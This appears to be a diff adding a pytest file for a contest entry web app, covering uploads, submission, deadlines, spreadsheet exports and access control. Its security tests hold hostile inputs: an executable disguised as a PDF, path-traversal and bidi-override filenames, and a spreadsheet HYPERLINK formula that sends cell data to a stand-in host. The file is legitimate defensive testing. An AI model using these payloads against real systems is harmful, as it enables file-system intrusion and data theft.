@@ -1,0 +1,201 @@
+"""The entry pages as a team and the secretariat use them."""
+
+import csv
+import io
+import re
+from datetime import timedelta
+
+import pytest
+from openpyxl import load_workbook
+
+from contest.domain.entries import submit
+from contest.models import AttachmentKind, CompetitionRoleKind, EntryStatus
+from contest.models.base import utcnow
+from tests.factories import (
+    csrf_token,
+    fill_entry,
+    login,
+    make_competition,
+    make_team,
+    make_user,
+    pdf_bytes,
+)
+
+
+@pytest.fixture
+def team(db):
+    return make_team(make_competition())
+
+
+def _upload(client, team, filename, content, kind="pitch_deck"):
+    token = csrf_token(client, f"/teams/{team.id}/entry")
+    return client.post(f"/teams/{team.id}/entry/upload", content_type="multipart/form-data",
+                       data={"csrf_token": token, "kind": kind, "file": (io.BytesIO(content), filename)})
+
+
+def _text(response) -> str:
+    return response.get_data(as_text=True)
+
+
+def test_draft_typed_text_is_kept_when_an_upload_is_refused(client, team, db):
+    login(client, team.leader)
+    token = csrf_token(client, f"/teams/{team.id}/entry")
+    response = client.post(f"/teams/{team.id}/entry/autosave", json={"title": "Nước mắm Sa Huỳnh"},
+                           headers={"X-CSRFToken": token})
+    assert response.status_code == 200 and response.json["errors"] == {}
+
+    windows_program = b"MZ\x90\x00" + b"\x00" * 200
+    response = _upload(client, team, "deck.pdf", windows_program)
+    assert response.status_code == 400
+    assert "Nước mắm Sa Huỳnh" in _text(response)
+    assert not team.entry.attachments
+
+
+@pytest.mark.parametrize("filename, content", [
+    ("deck.pdf", b"MZ\x90\x00" + b"\x00" * 200),           # a program renamed .pdf
+    ("deck.pdf", pdf_bytes()[:120]),                        # cut off half way
+    ("deck.pdf", b""),                                      # empty
+])
+def test_bad_files_are_refused_with_a_message(client, team, filename, content):
+    login(client, team.leader)
+    response = _upload(client, team, filename, content)
+    assert response.status_code == 400
+    assert re.search(r'class="errors" id="file-err"', _text(response))
+    assert not team.entry.attachments
+
+
+def test_oversize_files_are_refused(client, team, app):
+    app.config["MAX_CONTENT_LENGTH"] = 2 * 1024 * 1024
+    login(client, team.leader)
+    token = csrf_token(client, f"/teams/{team.id}/entry")
+    big = pdf_bytes() + b"%" * (3 * 1024 * 1024)
+    response = client.post(f"/teams/{team.id}/entry/upload", content_type="multipart/form-data",
+                           data={"csrf_token": token, "kind": "pitch_deck", "file": (io.BytesIO(big), "deck.pdf")})
+    assert response.status_code == 413
+    assert "2 MB" in _text(response)
+
+
+def test_files_over_the_per_file_limit_are_refused(client, team):
+    from contest.domain.uploads import MAX_BYTES
+
+    login(client, team.leader)
+    limit = MAX_BYTES[AttachmentKind.pitch_deck.value]
+    response = _upload(client, team, "deck.pdf", pdf_bytes() + b"%" * limit)
+    assert response.status_code == 400
+    assert f"{limit // (1024 * 1024)} MB" in _text(response)
+    assert not team.entry.attachments
+
+
+@pytest.mark.parametrize("filename", ["../../etc/passwd.pdf", "a\x01b\u202ecod.pdf", "..\\..\\boot.pdf"])
+def test_hostile_filenames_are_cleaned(client, team, filename):
+    login(client, team.leader)
+    response = _upload(client, team, filename, pdf_bytes())
+    assert response.status_code == 302
+    stored = team.entry.attachments[0]
+    assert "/" not in stored.filename and "\\" not in stored.filename and ".." not in stored.filename
+    assert not any(ord(ch) < 32 or ch == "\u202e" for ch in stored.filename)
+    download = client.get(f"/teams/{team.id}/entry/attachments/{stored.id}")
+    assert download.status_code == 200 and download.data.startswith(b"%PDF")
+    assert download.headers["Content-Type"].startswith("application/pdf")
+    assert "\n" not in download.headers["Content-Disposition"]
+
+
+def test_submit_shows_a_receipt_and_keeps_versions(client, team, db):
+    fill_entry(team)
+    login(client, team.leader)
+    token = csrf_token(client, f"/teams/{team.id}/entry")
+    response = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
+    assert response.status_code == 302 and response.location.endswith("/entry/receipt")
+    receipt = _text(client.get(response.location))
+    assert team.entry.code in receipt
+    client.post(f"/teams/{team.id}/entry/autosave", json={"title": "Tỏi đen Lý Sơn 2"}, headers={"X-CSRFToken": token})
+    client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
+    assert [v.number for v in team.entry.versions] == [1, 2]
+    assert team.entry.versions[0].data["title"] == "Tỏi đen Lý Sơn"
+
+
+def test_incomplete_entry_lists_every_gap_and_keeps_the_draft(client, team):
+    login(client, team.leader)
+    token = csrf_token(client, f"/teams/{team.id}/entry")
+    client.post(f"/teams/{team.id}/entry/autosave", json={"title": "Chỉ có tên"}, headers={"X-CSRFToken": token})
+    response = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
+    assert response.status_code == 400
+    page = _text(response)
+    assert "Chỉ có tên" in page and page.count("<li") >= 5
+    assert team.entry.status is EntryStatus.draft
+
+
+def test_after_the_deadline_the_entry_is_read_only(client, team, db):
+    fill_entry(team)
+    login(client, team.leader)
+    token = csrf_token(client, f"/teams/{team.id}/entry")
+    team.competition.submission_deadline = utcnow() - timedelta(minutes=1)
+    db.session.commit()
+
+    page = _text(client.get(f"/teams/{team.id}/entry"))
+    assert f'action="/teams/{team.id}/entry/submit"' not in page
+    assert f'action="/teams/{team.id}/entry/upload"' not in page
+    assert "<textarea" not in page
+
+    response = client.post(f"/teams/{team.id}/entry/autosave", json={"title": "Sửa muộn"},
+                           headers={"X-CSRFToken": token})
+    assert response.status_code == 409
+    response = client.post(f"/teams/{team.id}/entry", data={"csrf_token": token, "title": "Sửa muộn"})
+    assert response.status_code == 409
+    assert _upload(client, team, "late.pdf", pdf_bytes()).status_code in (400, 409)
+    response = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
+    assert response.status_code == 409
+    db.session.refresh(team.entry)
+    assert team.entry.title == "Tỏi đen Lý Sơn" and len(team.entry.attachments) == 2
+
+
+def _secretary(competition, db):
+    from contest.domain.competitions import grant_role
+
+    user = make_user()
+    grant_role(competition, user.email, CompetitionRoleKind.secretariat, granted_by=make_user(admin=True))
+    db.session.commit()
+    return user
+
+
+def test_exports_neutralise_formulas(client, db):
+    competition = make_competition()
+    team = make_team(competition, name='=HYPERLINK("http://x.example/?"&A1,"bấm")')
+    submit(fill_entry(team), team.leader)
+    login(client, _secretary(competition, db))
+
+    response = client.get(f"/manage/{competition.slug}/entries/export.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    name_cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
+    assert name_cells and all(cell.startswith("'") for cell in name_cells)
+
+    response = client.get(f"/manage/{competition.slug}/entries/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
+    assert cells and all(c.data_type == "s" and not str(c.value).startswith("=") for c in cells)
+
+
+def test_secretariat_marks_an_entry_invalid_with_a_reason(client, db):
+    competition = make_competition()
+    team = make_team(competition)
+    entry = fill_entry(team)
+    submit(entry, team.leader)
+    login(client, _secretary(competition, db))
+    path = f"/manage/{competition.slug}/entries/{entry.id}"
+    token = csrf_token(client, path)
+    response = client.post(path, data={"csrf_token": token, "validity": "invalid", "reason": ""})
+    assert response.status_code == 400
+    response = client.post(path, data={"csrf_token": token, "validity": "invalid", "reason": "Thiếu chữ ký"})
+    assert response.status_code == 302
+    db.session.refresh(entry)
+    assert entry.validity.value == "invalid" and entry.validity_reason == "Thiếu chữ ký"
+
+
+def test_members_of_another_team_cannot_read_attachments(client, team, db):
+    fill_entry(team)
+    stranger = make_team(team.competition).leader
+    login(client, stranger)
+    attachment = team.entry.attachments[0]
+    assert attachment.kind is AttachmentKind.pitch_deck
+    assert client.get(f"/teams/{team.id}/entry/attachments/{attachment.id}").status_code == 403
